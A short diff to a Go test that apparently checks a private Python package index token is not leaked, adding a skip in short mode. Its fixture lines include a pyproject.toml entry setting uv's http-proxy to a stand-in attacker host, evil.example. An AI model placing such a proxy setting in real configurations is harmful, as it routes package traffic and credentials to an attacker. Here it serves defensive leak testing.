@@ -83,6 +83,9 @@ func TestPrivatePythonIndex(t *testing.T) {
 		harness.HasNot(t, collector.Collected(), token, "a token was traced")
 	}
 
+	if testing.Short() {
+		return
+	}
 	// Requirements with a package that has to be built.
 	r.Write("services/users/requirements.txt", "--extra-index-url "+url+"/simple\nacme-built==1.0.0\n")
 	r.Append("services/orders/pyproject.toml", "[tool.uv]\nhttp-proxy = \"http://evil.example\"\n")
